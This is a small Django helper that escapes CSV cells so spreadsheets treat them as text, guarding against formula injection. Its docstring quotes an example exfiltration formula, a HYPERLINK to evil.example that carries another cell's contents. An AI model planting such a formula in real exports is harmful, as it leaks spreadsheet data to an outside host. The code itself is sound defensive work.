"""CSV downloads that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`,
`-` or `@` as a formula (and a leading tab or carriage return can hide one),
so a comment such as `=HYPERLINK("http://evil.example/?d="&A2, "details")`
would send the sheet's other cells away when the operator opens the export.
OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection):
prefix such a cell with a single quote, which the spreadsheet shows as text.
Numbers are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[object]]) -> HttpResponse:
    """An attachment `filename` holding `header` and `rows`, each text cell made inert."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = csv.writer(response)
    writer.writerow(header)
    writer.writerows([inert(cell) for cell in row] for row in rows)
    return response


def inert(cell: object) -> object:
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell
